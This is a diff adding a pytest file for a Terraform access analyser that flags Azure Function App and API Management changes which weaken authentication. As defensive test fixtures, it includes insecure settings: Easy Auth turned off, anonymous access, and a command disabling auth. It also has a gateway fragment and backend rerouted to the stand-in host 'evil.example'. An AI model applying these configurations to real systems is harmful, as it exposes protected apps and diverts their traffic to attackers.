@@ -1,0 +1,411 @@
+"""Who else writes what the links say: it is read, or what it could change is in doubt."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+
+from constructs_lib.access import analyse, read_stacks
+from tests.access.kinds import APP, AUTH, DIRECTORY, GATEWAY, POLICY, RESOURCE, Case, holds, inbound
+from tests.access.samples import Document, chain, easy_auth
+
+SITE = f"${{{APP}.orders.id}}"
+X = "resource.azapi_update_resource.x"
+DOUBTED = {"anonymous": "unknown", "gateway": "unknown"}
+FRAGMENT = f"{GATEWAY}_policy_fragment"
+
+
+def config(name: str, body: Any, **more: Any) -> dict[str, Any]:
+    return {
+        X: {
+            "type": "Microsoft.Web/sites/config@2023-12-01",
+            "name": name,
+            "parent_id": SITE,
+            "body": body,
+            **more,
+        }
+    }
+
+
+def auth(properties: Any) -> dict[str, Any]:
+    return config("authsettingsV2", {"properties": properties})
+
+
+def ignoring(*names: str) -> dict[str, Any]:
+    return {f"{RESOURCE}.lifecycle": {"ignore_changes": list(names)}}
+
+
+def command(text: str, kind: str = "local-exec") -> dict[str, Any]:
+    return {"resource.terraform_data.x": {"provisioner": [{kind: {"command": text}}]}}
+
+
+def template(content: Any) -> dict[str, Any]:
+    return {
+        "resource.azurerm_resource_group_template_deployment.x": {
+            "name": "x",
+            "resource_group_name": "rg",
+            "deployment_mode": "Incremental",
+            "template_content": content if isinstance(content, str) else json.dumps(content),
+        }
+    }
+
+
+def fragment(written: Any) -> dict[str, Any]:
+    return {
+        f"resource.{FRAGMENT}.f": {
+            "api_management_id": f"${{{GATEWAY}.gateway.id}}",
+            "name": "f",
+            "value": "<fragment />",
+        },
+        POLICY: inbound('<include-fragment fragment-id="f" />', after=False),
+        X: {
+            "type": "Microsoft.ApiManagement/service/policyFragments@2022-08-01",
+            "resource_id": f"${{{FRAGMENT}.f.id}}",
+            "body": written,
+        },
+    }
+
+
+def action(**arguments: Any) -> dict[str, Any]:
+    return {
+        "resource.azapi_resource_action.x": {
+            "type": "Microsoft.Web/sites@2024-04-01",
+            "resource_id": SITE,
+            **arguments,
+        }
+    }
+
+
+def linked(kind: str, **arguments: Any) -> dict[str, Any]:
+    return {f"resource.{kind}.x": {"name": "x", **arguments}}
+
+
+ADDS_EVIL = (
+    "<fragment><authentication-managed-identity resource='${azuread_application.orders.client_id}'"
+    " client-id='${azurerm_user_assigned_identity.gateway.client_id}' />"
+    "<set-backend-service base-url='https://evil.example'/></fragment>"
+)
+
+CASES = [
+    # Easy Auth by azapi
+    Case("azapi turns Easy Auth off", "SF101", auth({"platform": {"enabled": False}})),
+    Case(
+        "azapi lets anonymous requests through",
+        "SF102",
+        auth({"globalValidation": {"requireAuthentication": False}}),
+        {"anonymous": "open", "application": "open"},
+    ),
+    Case(
+        "azapi leaves a path out",
+        "SF113",
+        auth({"globalValidation": {"excludedPaths": ["/api/x"]}}),
+    ),
+    Case(
+        "a body that is computed may say anything",
+        "told",
+        config("authsettingsV2", "${var.b}"),
+        DOUBTED,
+    ),
+    Case("a property that is not known may too", "told", auth({"aProperty": {"x": 1}}), DOUBTED),
+    Case(
+        "by the id of the settings it is the same",
+        "SF101",
+        {
+            X: {
+                "type": "Microsoft.Web/sites/config@2023-12-01",
+                "resource_id": f"${{{APP}.orders.id}}/config/authsettingsV2",
+                "body": {"properties": {"platform": {"enabled": False}}},
+            }
+        },
+    ),
+    Case(
+        "network rules by azapi are read",
+        "SF411",
+        config(
+            "web",
+            {
+                "properties": {
+                    "ipSecurityRestrictions": [
+                        {"ipAddress": "Any", "action": "Allow", "priority": 1}
+                    ]
+                }
+            },
+        ),
+    ),
+    Case(
+        "a part of a site that is not known is told", "told", config("newPart", {"properties": {}})
+    ),
+    Case(
+        "connection strings decide nothing",
+        "no error",
+        config("connectionstrings", {"properties": {}}),
+        {"anonymous": "closed"},
+    ),
+    Case(
+        "an action that is not known is told",
+        "told",
+        action(action="config/authsettingsV2", method="POST"),
+        {"anonymous": "unknown"},
+    ),
+    Case("a restart changes nothing", "clean", action(action="restart", method="POST") | {}),
+    Case(
+        "to read keys is no writing", "clean", action(action="host/default/listKeys", method="POST")
+    ),
+    # The gateway by azapi
+    Case("azapi writes a fragment", "told", fragment({"properties": {"value": ADDS_EVIL}})),
+    Case(
+        "a fragment that is computed may say anything",
+        "told",
+        fragment("${var.b}"),
+        {"gateway": "unknown"},
+    ),
+    Case(
+        "azapi writes over a backend",
+        "SF310",
+        {
+            X: {
+                "type": "Microsoft.ApiManagement/service/backends@2022-08-01",
+                "resource_id": f"${{{GATEWAY}_backend.orders.id}}",
+                "body": {"properties": {"url": "https://evil.example/api"}},
+            }
+        },
+    ),
+    Case(
+        "azapi writes over an API",
+        "SF501",
+        {
+            X: {
+                "type": "Microsoft.ApiManagement/service/apis@2022-08-01",
+                "resource_id": f"${{{GATEWAY}_api.orders.id}}",
+                "body": {"properties": {"subscriptionRequired": False}},
+            }
+        },
+        {"gateway-without-key": "open"},
+    ),
+    # ignore_changes
+    Case(
+        "ignored changes of Easy Auth are not applied",
+        "SF907",
+        ignoring("auth_settings_v2"),
+        {"anonymous": "unknown"},
+    ),
+    Case("of a part of it", "told", ignoring("auth_settings_v2[0].auth_enabled")),
+    Case(
+        "of everything",
+        "told",
+        {f"{RESOURCE}.lifecycle": {"ignore_changes": "all"}},
+        {"anonymous": "unknown"},
+    ),
+    Case("of the site's settings", "told", ignoring("site_config")),
+    Case("of tags they decide nothing", "clean", ignoring("tags")),
+    Case("of what runs they do not either", "clean", ignoring("site_config[0].application_stack")),
+    Case(
+        "what exists already and is ignored stays as it is",
+        "told",
+        ignoring("auth_settings_v2") | {"import": [{"to": f"{APP}.orders", "id": "/x"}]},
+    ),
+    Case("an import alone is applied", "clean", {"import": [{"to": f"{APP}.orders", "id": "/x"}]}),
+    Case(
+        "an ignored policy is not applied",
+        "told",
+        {f"resource.{GATEWAY}_api_policy.orders.lifecycle": {"ignore_changes": ["xml_content"]}},
+        {"gateway": "unknown"},
+    ),
+    # Commands
+    Case(
+        "a command may turn Easy Auth off",
+        "told",
+        command("az webapp auth update --enabled false"),
+        DOUBTED,
+    ),
+    Case("a script may", "told", command("./deploy.sh"), DOUBTED),
+    Case("on another machine too", "told", command("x", "remote-exec"), DOUBTED),
+    Case("after a harmless one", "told", command("npm ci && az rest --method put"), DOUBTED),
+    Case("one that builds does not", "clean", command("npm ci && npm run build")),
+    Case(
+        "of the app itself",
+        "told",
+        {f"{RESOURCE}.provisioner": [{"local-exec": {"command": "az x"}}]},
+        DOUBTED,
+    ),
+    # Templates
+    Case(
+        "a template with a site may change it",
+        "told",
+        template({"resources": [{"type": "Microsoft.Web/sites/config"}]}),
+        DOUBTED,
+    ),
+    Case("one that is computed may", "told", template("${file(var.t)}"), DOUBTED),
+    Case(
+        "a nested one may",
+        "told",
+        template({"resources": [{"type": "Microsoft.Resources/deployments"}]}),
+        DOUBTED,
+    ),
+    Case(
+        "one of something else does not",
+        "clean",
+        template({"resources": [{"type": "Microsoft.Insights/components"}]}),
+    ),
+    Case(
+        "a deployment script may",
+        "told",
+        linked("azurerm_resource_deployment_script_azure_cli", script_content="az x"),
+        DOUBTED,
+    ),
+    # Links
+    Case(
+        "a Static Web App that is linked calls it",
+        "SF504",
+        linked("azurerm_static_web_app_function_app_registration", function_app_id=SITE),
+        {"anonymous": "unknown"},
+    ),
+    Case(
+        "by an id that is written out nobody is found",
+        "clean",
+        linked("azurerm_static_web_app_function_app_registration", function_app_id="/x/sites/y"),
+    ),
+    Case(
+        "a type that is not known may change what it refers to",
+        "told",
+        linked("azurerm_new_thing", site=SITE),
+        {"anonymous": "unknown"},
+    ),
+    Case("one that refers to nothing does not", "clean", linked("azurerm_new_thing", site="x")),
+    Case(
+        "a metric alert only watches",
+        "clean",
+        linked("azurerm_monitor_metric_alert", scopes=[SITE]),
+    ),
+    Case("a private endpoint is a way to it", "clean", linked("azurerm_private_endpoint", x=SITE)),
+    Case(
+        "a service connection writes settings",
+        "SF906",
+        linked("azurerm_function_app_connection", function_app_id=SITE),
+    ),
+    # Arguments
+    Case(
+        "an argument that is not known is told",
+        "told",
+        {f"{AUTH}.new_argument": True},
+        {"anonymous": "unknown"},
+    ),
+    Case("of the directory too", "told", {f"{DIRECTORY}.new_argument": "x"}),
+    Case("of the site", "told", {f"{RESOURCE}.new_argument": "x"}, {"anonymous": "unknown"}),
+    Case("one that is null is none", "clean", {f"{AUTH}.new_argument": None}),
+    Case(
+        "a policy of another API's", "told", {f"resource.{GATEWAY}_api.orders.source_api_id": "/x"}
+    ),
+]
+
+
+@pytest.mark.parametrize("case", CASES, ids=str)
+def test_it_is(case: Case) -> None:
+    case.check()
+
+
+def made_by_azapi(**properties: Any) -> Document:
+    document = chain()
+    app = document["resource"].pop(APP)["orders"]
+    settings = app["auth_settings_v2"]
+    directory = settings["active_directory_v2"]
+    document["resource"]["azapi_resource"] = {
+        "orders": {
+            "type": "Microsoft.Web/sites@2024-04-01",
+            "name": "func-orders",
+            "parent_id": "/subscriptions/s/resourceGroups/rg",
+            "location": "westeurope",
+            "body": {
+                "kind": "functionapp,linux",
+                "properties": {
+                    "httpsOnly": True,
+                    "siteConfig": {"scmIpSecurityRestrictionsDefaultAction": "Deny"},
+                    **properties,
+                },
+            },
+        },
+        **{
+            name: {
+                "type": "Microsoft.Web/sites/basicPublishingCredentialsPolicies@2024-04-01",
+                "name": name,
+                "parent_id": "${azapi_resource.orders.id}",
+                "body": {"properties": {"allow": False}},
+            }
+            for name in ("scm", "ftp")
+        },
+        "auth": {
+            "type": "Microsoft.Web/sites/config@2024-04-01",
+            "name": "authsettingsV2",
+            "parent_id": "${azapi_resource.orders.id}",
+            "body": {
+                "properties": {
+                    "platform": {"enabled": True},
+                    "globalValidation": {
+                        "requireAuthentication": True,
+                        "unauthenticatedClientAction": "Return401",
+                    },
+                    "identityProviders": {
+                        "azureActiveDirectory": {
+                            "enabled": True,
+                            "registration": {
+                                "clientId": directory["client_id"],
+                                "openIdIssuer": directory["tenant_auth_endpoint"],
+                            },
+                            "validation": {
+                                "defaultAuthorizationPolicy": {
+                                    "allowedApplications": directory["allowed_applications"],
+                                    "allowedPrincipals": {
+                                        "identities": directory["allowed_identities"]
+                                    },
+                                }
+                            },
+                        }
+                    },
+                }
+            },
+        },
+    }
+    backend = document["resource"][f"{GATEWAY}_backend"]["orders"]
+    backend["url"] = "https://func-orders.azurewebsites.net/api"
+    return document
+
+
+def test_an_app_that_azapi_makes_is_a_target_like_any_other() -> None:
+    analysis = analyse(read_stacks({"stack": made_by_azapi()}))
+    assert [each.address for each in analysis.function_apps] == ["azapi_resource.orders"]
+    holds(analysis, "clean", {"anonymous": "closed", "gateway": "open"})
+
+
+def test_without_easy_auth_it_is_open() -> None:
+    document = made_by_azapi()
+    del document["resource"]["azapi_resource"]["auth"]
+    holds(analyse(read_stacks({"stack": document})), "SF101", {"anonymous": "open"})
+
+
+def test_what_is_not_read_of_it_is_in_doubt() -> None:
+    document = made_by_azapi(aProperty=1)
+    holds(analyse(read_stacks({"stack": document})), "told", {"anonymous": "unknown"})
+
+
+def test_a_web_app_is_no_target() -> None:
+    document = made_by_azapi()
+    document["resource"]["azapi_resource"]["orders"]["body"]["kind"] = "app,linux"
+    assert analyse(read_stacks({"stack": document})).function_apps == ()
+
+
+def test_a_slot_that_azapi_makes_is_a_target() -> None:
+    document = chain()
+    document["resource"]["azapi_resource"] = {
+        "blue": {
+            "type": "Microsoft.Web/sites/slots@2024-04-01",
+            "name": "blue",
+            "parent_id": SITE,
+            "body": {"kind": "functionapp", "properties": {}},
+        }
+    }
+    analysis = analyse(read_stacks({"stack": document}))
+    assert "func-orders/blue" in [each.name for each in analysis.function_apps]
+    assert "SF101" in {each.rule for each in analysis.findings}
+    assert easy_auth(document)["auth_enabled"]
